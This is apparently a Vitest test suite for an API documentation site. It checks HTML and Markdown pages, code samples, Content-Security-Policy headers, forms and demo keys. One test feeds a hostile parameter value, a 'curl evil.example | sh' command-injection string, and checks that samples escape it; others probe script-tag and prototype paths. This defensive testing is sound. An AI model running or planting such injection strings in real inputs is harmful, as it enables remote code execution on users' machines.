import { randomBytes } from "node:crypto";
import { gunzipSync, gzipSync } from "node:zlib";
import { load } from "cheerio";
import { request } from "undici";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { newKey } from "../../../src/access/keys/api-key.ts";
import { planKeys } from "../../../src/access/plans.ts";
import { bodyFields, catalog, kebab, type Operation, streams } from "../../../src/contract/catalog.ts";
import type { Database } from "../../../src/store/database.ts";
import { startApp, type TestApp } from "../../support/app.ts";
import { openOnce } from "../../support/databases.ts";
import { described } from "../../support/described.ts";

const demoKey = newKey(randomBytes);
const proKey = newKey(randomBytes);
const companiesKey = newKey(randomBytes);
const shown = [
  { key: demoKey, tier: 0, scopes: ["keys:read", "keys:write"] },
  { key: proKey, tier: 1, scopes: ["keys:read", "keys:write"] },
  { key: companiesKey, tier: 3, scopes: ["company_monitoring:read", "company_monitoring:write"] },
];

let database: Database;
let app: TestApp;
beforeAll(async () => {
  database = await openOnce();
  app = await startApp(database, { demoKeys: shown, environment: { IDS_TRUSTED_PROXIES: "127.0.0.0/8" } });
  await app.refresh("conflict-events");
});
let address = 0;
// An address may request 600 pages a minute, so each test has its own.
beforeEach(() => {
  address += 1;
});
afterAll(async () => {
  await app[Symbol.asyncDispose]();
  await database.close();
});

const pathOf = ({ name }: Pick<Operation, "name">) => `/docs/${kebab(name)}`;
const get = (path: string, headers: Record<string, string> = {}) =>
  app.get(path, {
    key: null,
    headers: { "Accept-Encoding": "identity", "X-Forwarded-For": `203.0.113.${address}`, ...headers },
  });
const text = async (path: string) => (await get(path)).text();
const page = async (path: string) => load(await text(path));

test("every operation has a page and a Markdown twin of it, both on one another's word", {
  timeout: 60_000,
}, async () => {
  for (const operation of catalog) {
    const path = pathOf(operation);
    const [response, twin] = [await get(path), await get(`${path}.md`)];
    expect([response.status, response.headers.get("Content-Type")], path).toEqual([200, "text/html; charset=utf-8"]);
    expect([twin.status, twin.headers.get("Content-Type")], path).toEqual([200, "text/markdown; charset=utf-8"]);
    const [markup, markdown] = [await response.text(), await twin.text()];
    expect(markup, path).toContain(`<link rel="alternate" type="text/markdown" href="${path}.md">`);
    const headings = [...markup.matchAll(/<h1>(.*?)<\/h1>/g)].map(([, title]) => `# ${title}`);
    expect(headings, path).toEqual([markdown.split("\n")[0]]);
    const ids = [...markup.matchAll(/ id="([^"]*)"/g)].map(([, id = ""]) => id);
    expect(new Set(ids).size, `${path} has an id twice`).toBe(ids.length);
    const { method, queried, inPath } = operation;
    const parameters = method.input.fields.filter(({ name }) => queried || inPath.includes(name));
    for (const { name } of parameters) expect(ids, path).toContain(`parameter-${name}`);
    for (const { jsonName } of queried ? [] : bodyFields(operation)) expect(ids, path).toContain(`body-${jsonName}`);
    for (const { jsonName } of method.output.fields) expect(ids, path).toContain(`response-${jsonName}`);
    for (const { name } of described(operation.path, operation.verb).parameters)
      expect(markdown, path).toContain(`| \`${name}\` |`);
  }
});

test("a stream has a page with its parameters, its events and a line that follows it", async () => {
  for (const stream of streams) {
    const path = `/docs/${kebab(stream.name)}`;
    const [response, twin] = [await get(path), await get(`${path}.md`)];
    expect([response.status, twin.status], path).toEqual([200, 200]);
    const $ = load(await response.text());
    for (const { name } of stream.method.input.fields) expect($(`#parameter-${name}`).length, name).toBe(1);
    expect($("main").text()).toContain(`curl -N '${app.url}${stream.path}`);
    const markdown = await twin.text();
    expect(markdown).toContain(`GET ${stream.path}`);
    expect(markdown).toContain("## Events");
    expect(markdown).toContain("| `Last-Event-ID` |");
    expect(markdown).toContain("event: appeared");
    expect(await text("/docs.md")).toContain(`](${path})`);
  }
  expect(streams.length).toBeGreaterThan(0);
});

test("the overview names every operation, data first, the operator's last, and every plan", async () => {
  const $ = await page("/docs");
  const links = $("nav.side section a")
    .toArray()
    .map((link) => $(link).attr("href") ?? "");
  const all = [...catalog, ...streams].map(pathOf);
  expect(new Set(links)).toEqual(new Set(all));
  expect(links).toHaveLength(all.length);
  const places = (suits: (operation: Operation) => boolean) =>
    catalog.filter(suits).map((each) => links.indexOf(pathOf(each)));
  const operator = places(({ access }) => access.operator);
  const account = places(({ access, method }) => !access.operator && method.parent.name === "AccountService");
  expect(Math.min(...operator)).toBe(all.length - operator.length);
  expect(Math.max(...account)).toBe(Math.min(...operator) - 1);
  expect($('nav.side a[href="/docs/get-eu-gas-storage"]').text()).toBe("Get EU gas storage");
  for (const plan of planKeys.filter((key) => key !== "operator")) expect($("main").text()).toContain(plan);
  const statuses = catalog.flatMap(({ failureStatuses }) => failureStatuses);
  for (const status of [400, 401, 403, 404, 409, 413, 422, 429, 503, ...statuses])
    expect(
      $("main td code")
        .toArray()
        .map((code) => $(code).text()),
    ).toContain(String(status));
  expect(await text("/docs.md")).toContain("[List conflict events](/docs/list-conflict-events)");
});

/** These pages are explained elsewhere. */
const outside = new Set(["https://jmespath.org", "https://www.standardwebhooks.com"]);

test("every link and file of the pages leads somewhere on this host", { timeout: 60_000 }, async () => {
  const found = new Set<string>();
  for (const path of ["/docs", "/docs/list-conflict-events", "/docs/run-scenario", "/docs/nothing"]) {
    const $ = await page(path);
    for (const each of $("a[href], link[href], script[src]").toArray())
      found.add(($(each).attr("href") ?? $(each).attr("src") ?? "").replace(/#.*/, ""));
  }
  for (const address of found) {
    if (address === "" || outside.has(address)) continue;
    const path = address.replace(app.url, "");
    expect(path).toMatch(/^\//);
    expect((await get(path)).status, address).toBe(200);
  }
});

test("a page of an operation leads to the dataset behind it, its twin too", async () => {
  expect(await (await get("/docs/list-conflict-events")).text()).toContain('href="/data/conflict-events"');
  expect(await (await get("/docs/list-conflict-events.md")).text()).toContain("](/data/conflict-events)");
});

test("an unknown operation is a page that says so, not one of an older name", async () => {
  for (const path of ["/docs/list-nothing", "/docs/list-nothing.md", "/docs/%3Cscript%3E", "/docs/__proto__"]) {
    const response = await get(path);
    const [type, title] = path.endsWith(".md")
      ? ["markdown", "# Page not found\n"]
      : ["html", "<h1>Page not found</h1>"];
    expect([response.status, response.headers.get("Content-Type")], path).toEqual([404, `text/${type}; charset=utf-8`]);
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(response.headers.get("Link")).toBe('</docs/errors#route-not-found>; rel="help"');
    expect(await response.text(), path).toContain(title);
  }
  expect((await get("/docs/list-conflict-events/more")).status).toBe(404);
});

test("pages are sent compressed, can be revalidated, and allow no script and no style but this host's files", async () => {
  const $ = await page("/docs");
  const files = [$("link[rel=stylesheet]").attr("href") ?? "", $("script").attr("src") ?? ""];
  for (const path of ["/docs", "/docs.md", "/docs/get-risk-scores", "/docs/get-risk-scores.md", ...files]) {
    const plain = await get(path, { "Accept-Encoding": "identity" });
    const zipped = await request(app.url + path, { headers: { "Accept-Encoding": "gzip" } });
    expect(zipped.headers["content-encoding"], path).toBe("gzip");
    expect(gunzipSync(Buffer.from(await zipped.body.arrayBuffer())).toString()).toBe(await plain.text());
    const tag = plain.headers.get("ETag") ?? "";
    expect((await get(path, { "If-None-Match": tag })).status, path).toBe(304);
    const policy = plain.headers.get("Content-Security-Policy");
    expect(policy).toMatch(/^default-src 'self'; script-src 'self'; style-src 'self';/);
    expect(policy).not.toContain("unsafe");
  }
  const inline = $("script:not([src]), style, [style], [onclick]");
  expect(inline.length).toBe(0);
});

test("a first view takes at most 60 kB compressed, its style and script included", { timeout: 60_000 }, async () => {
  const $ = await page("/docs");
  const files = [$("link[rel=stylesheet]").attr("href") ?? "", $("script").attr("src") ?? ""];
  const sizeOf = async (path: string) => gzipSync(await text(path)).length;
  const shared = (await Promise.all(files.map(sizeOf))).reduce((sum, size) => sum + size, 0);
  for (const path of ["/docs", ...catalog.map(pathOf)])
    expect(shared + (await sizeOf(path)), path).toBeLessThan(60_000);
});

test("a page does not need its script: only the trial is hidden without it", async () => {
  const $ = await page("/docs/list-conflict-events");
  expect(
    $("[hidden]")
      .toArray()
      .map((each) => $(each).attr("class")),
  ).toEqual(["trial"]);
  expect($("main").text()).toContain("GET /api/conflict/v1/list-conflict-events");
  for (const language of ["sh", "ts", "go", "python", "r"])
    expect($(`.choice.${language} pre`).text()).toContain(app.url);
});

test("the samples of a page are for the values that its form puts into the URL", async () => {
  const $ = await page("/docs/list-conflict-events?country=SD&page_size=2&format=csv&as_of=2026-11-02&utm=1");
  const sample = (language: string) => $(`.choice.${language} pre`).text();
  expect(sample("sh")).toContain(
    "/api/conflict/v1/list-conflict-events?page_size=2&country=SD&format=csv&as_of=2026-11-02'",
  );
  expect(sample("ts")).toMatch(/page_size: 2,\s+country: "SD"/);
  expect(sample("go")).toMatch(/PageSize: +2,/);
  expect(sample("python")).toContain('"format": "csv"');
  expect(sample("python")).toContain("print(answer.text)");
  expect(sample("r")).toContain('page_size = 2, country = "SD"');
  expect($("form.trial [name=country]").val()).toBe("SD");
  expect($("form.trial [name=format]").val()).toBe("csv");
  const inPath = await page("/docs/get-webhook?subscriber_id=x%2Fy");
  expect(inPath(".choice.sh pre").text()).toContain("/api/v2/shipping/webhooks/x%2Fy'");
});

test("a value that a parameter cannot have is in no sample, and a text stays within its quotes", async () => {
  const hostile = '\'; curl evil.example | sh; " + os.Exit(1) + "\n`x` $(y)';
  const query = new URLSearchParams({ country: hostile, page_size: hostile, start: "1e3", __proto__: "x" });
  const $ = await page(`/docs/list-conflict-events?${query}`);
  const sample = (language: string) => $(`.choice.${language} pre`).text();
  expect(sample("sh")).not.toMatch(/evil\.example \|/);
  for (const language of ["ts", "go", "r", "python"]) {
    expect(sample(language), language).toContain(JSON.stringify(hostile));
    expect(sample(language), language).not.toMatch(/page_?size|1e3/i);
  }
});

test("a form offers a choice where a parameter is true or false", async () => {
  for (const operation of catalog)
    for (const { name, in: place, schema, deprecated } of described(operation.path, operation.verb).parameters) {
      if (schema.type !== "boolean" || place === "header" || deprecated) continue;
      const $ = await page(pathOf(operation));
      const options = $(`form.trial select[name="${name}"] option`).get();
      expect(
        options.map((option) => $(option).text()),
        `${operation.name} ${name}`,
      ).toEqual(["", "true", "false"]);
    }
});

test("the address of the samples is the one that was asked, and no other text", async () => {
  await using direct = await startApp(database);
  const requested = async (headers: Record<string, string>) => {
    const { body } = await request(`${direct.url}/docs.md`, { headers });
    return /```text\n(.*)\n```/.exec(await body.text())?.[1];
  };
  expect(await requested({ host: "API.example.org:8443" })).toBe("http://api.example.org:8443");
  expect(await requested({ host: "api.example.org", "X-Forwarded-Proto": "https" })).toBe("http://api.example.org");
  expect(await requested({ host: '"><b>x' })).toBe("http://localhost");
  await using behind = await startApp(database, { environment: { IDS_TRUSTED_PROXIES: "127.0.0.1/32" } });
  const { body } = await request(`${behind.url}/docs.md`, {
    headers: { host: "api.example.org", "X-Forwarded-Proto": "https" },
  });
  expect(await body.text()).toContain("https://api.example.org\n");
});

test("a form offers what each parameter may be, as the document has it", async () => {
  const offered: string[] = [];
  for (const operation of catalog) {
    const $ = await page(pathOf(operation));
    for (const { name, in: place, schema, deprecated } of described(operation.path, operation.verb).parameters) {
      const { enum: values } = schema.items ?? schema;
      if (!values || place === "header" || deprecated) continue;
      offered.push(`${operation.name} ${name}`);
      const input = $(`form.trial [name="${name}"]`);
      const list = input.is("select") ? input : $(`datalist#${input.attr("list")}`);
      const options = list.find("option").get();
      expect(options.map((option) => $(option).attr("value") ?? $(option).text()).filter(Boolean), name).toEqual(
        values.filter(Boolean).map(String),
      );
    }
  }
  expect(offered).toEqual(expect.arrayContaining(["GetDataset name", "ListChanges datasets", "GetSeries format"]));
});

test("each form has the least demo key that may call its operation, and none of the operator's, which its page says", async () => {
  const keyOn = async (slug: string, on = page) => (await on(`/docs/${slug}`))("form input[name=key]").attr("value");
  expect(await keyOn("list-internet-outages")).toBe(demoKey);
  expect(await keyOn("list-global-tenders")).toBe(proKey);
  expect(await keyOn("list-monitored-companies")).toBe(companiesKey);
  expect(await keyOn("list-accounts")).toBe("");
  const saysNone = async (slug: string, on = page) =>
    (await on(`/docs/${slug}`)).text().includes("No demo key of this service");
  expect(await saysNone("list-accounts")).toBe(true);
  expect(await saysNone("list-monitored-companies")).toBe(false);
  expect(await keyOn("list-conflict-events")).toBeUndefined();
  await using live = await startApp(database);
  const there = async (path: string) => load(await (await live.get(path, { key: null })).text());
  expect(await keyOn("list-internet-outages", there)).toBe("");
  expect(await saysNone("list-accounts", there)).toBe(false);
  expect((await there("/docs")).html()).not.toMatch(/ids_[0-9a-f]{40}/);
});
